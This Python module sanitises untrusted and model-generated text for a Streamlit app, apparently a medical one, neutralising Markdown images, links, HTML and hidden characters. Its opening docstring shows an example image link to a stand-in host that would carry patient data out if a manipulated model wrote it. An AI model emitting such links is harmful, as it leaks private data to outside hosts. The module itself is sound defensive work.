"""Make text that we did not write inert as Markdown.

Streamlit fetches a remote image as soon as its Markdown appears, so a model that was talked into writing
`![x](https://example.org/?d=...)` would send patient data out. Two passes: the first takes images out and turns links into
their text, which reads well; the second makes every link, image, reference definition, HTML tag and bare address impossible by
putting a blank inside its opening, which does not depend on the first pass having understood the text. The second pass looks
only at characters already seen, so a stream is safe at every cut.

The result is still plain text (no entities, no backslashes), the same for a page, an API client and a report. A page puts it
through `as_markdown` last, so that `HLA-B*27:05` and `$` keep their meaning.
"""

from __future__ import annotations

import re

_REMOVED = "(image removed)"
# Line breaks and tabs stay; other control characters, zero-width signs and direction overrides hide text from the reader.
_INVISIBLE = dict.fromkeys(
    [*range(0x09), 0x0B, 0x0C, *range(0x0E, 0x20), *range(0x7F, 0xA0), 0xAD, *range(0x200B, 0x2010), *range(0x202A, 0x202F),
     *range(0x2060, 0x2070), 0xFEFF, *range(0xE0000, 0xE0080)]
) | {0x0D: "\n"}
_LABEL = r"[^\[\]\n]{0,300}"
_TARGET = r"\([^()\n]{0,2000}\)"
_IMAGE = re.compile(rf"!\[{_LABEL}\](?:{_TARGET}|\[{_LABEL}\])?")
_LINK = re.compile(rf"\[({_LABEL})\]({_TARGET})")
_REFERENCE = re.compile(rf"\[({_LABEL})\]\[{_LABEL}\]")
_OPENING = re.compile(
    r"(?<=[\]!])\["  # an image, or a reference
    r"|(?<=\])[(:]"  # the target of a link, a definition
    r"|(?<=<)[A-Za-z/!?]"  # a tag, a comment, an autolink
    r"|(?<=:/)/"  # an address
    r"|(?<=www)\."
    r"|(?<=\w@)\w",  # a mail address
    re.IGNORECASE,
)
_MARKER = re.compile(r"[ \t]?\[\d{1,2}(?:,\s?\d{1,2}){0,9}\]")
_STAR_ALLELE = re.compile(r"(?<!\*)\*(?=\d)")
_DIRECTIVE = re.compile(r":(?=[A-Za-z][\w+-]{0,40}[\[/:])")
_LOOK_BEHIND = 3  # the longest look-behind of _OPENING
_LONGEST_CONSTRUCT = 2400


def sanitise(text: str) -> str:
    """Return `text` without images, live links, HTML tags, hidden characters. Idempotent, linear in its length."""
    return _OPENING.sub(_with_blank, _flatten(text.replace("\r\n", "\n").translate(_INVISIBLE)))


def as_markdown(text: str) -> str:
    """Return `text` ready for `st.markdown`: sanitised, and with signs that stand for themselves escaped.

    Among them the colon of Streamlit's own directives: `:blue-badge[1]` in a document or a reply must not look like one of
    our citation markers.
    """
    safe = _STAR_ALLELE.sub(r"\\*", sanitise(text))
    safe = _DIRECTIVE.sub(r"\\:", safe)
    return safe.replace("$", r"\$").replace("~", r"\~").replace("_", r"\_").replace("`", r"\`")


class StreamSanitiser:
    """The same for a text that arrives in pieces; for the output of the model.

    The joined results are inert wherever the pieces were cut. Numbers in square brackets are taken out too: only the product
    writes citation markers, so the model cannot forge one.
    """

    def __init__(self) -> None:
        self._held = ""
        self._tail = ""

    def feed(self, piece: str) -> str:
        """Return what can be shown now.

        An unfinished bracket is held back until it closes, its line ends, or it grows too long.
        """
        text = self._held + piece.replace("\r\n", "\n").translate(_INVISIBLE)
        cut = _open_bracket(text)
        if len(text) - cut > _LONGEST_CONSTRUCT:
            cut = len(text)
        self._held = text[cut:]
        return self._release(text[:cut])

    def flush(self) -> str:
        """Return the rest: at the end of a content block. What was shown stays the context of what follows."""
        rest, self._held = self._held, ""
        return self._release(rest)

    def _release(self, text: str) -> str:
        if not text:
            return ""
        flat = _MARKER.sub("", _flatten(text))
        # The tail is already inert, so the pass changes nothing in it and only judges the seam.
        joined = _OPENING.sub(_with_blank, self._tail + flat)
        self._tail, start = joined[-_LOOK_BEHIND:], len(self._tail)
        return joined[start:]


def _flatten(text: str) -> str:
    return _REFERENCE.sub(r"\1", _LINK.sub(r"\1 \2", _IMAGE.sub(_REMOVED, text)))


def _with_blank(match: re.Match[str]) -> str:
    return f" {match.group()}"


def _open_bracket(text: str) -> int:
    """Where the last line holds something that may still become an image, a link or a marker; the length of `text` if not."""
    line = text.rfind("\n") + 1
    start = text.find("[", line)
    while start != -1:
        close = text.find("]", start)
        if close == -1 or close + 1 == len(text):
            break
        if text[close + 1] in "([":
            end = text.find(")" if text[close + 1] == "(" else "]", close + 2)
            if end == -1:
                break
            close = end
        start = text.find("[", close + 1)
    if start == -1:
        return len(text) - 1 if text.endswith("!") else len(text)
    before = start - 1 if start > line and text[start - 1] == "!" else start
    return before - 1 if before > line and text[before - 1] in " \t" else before
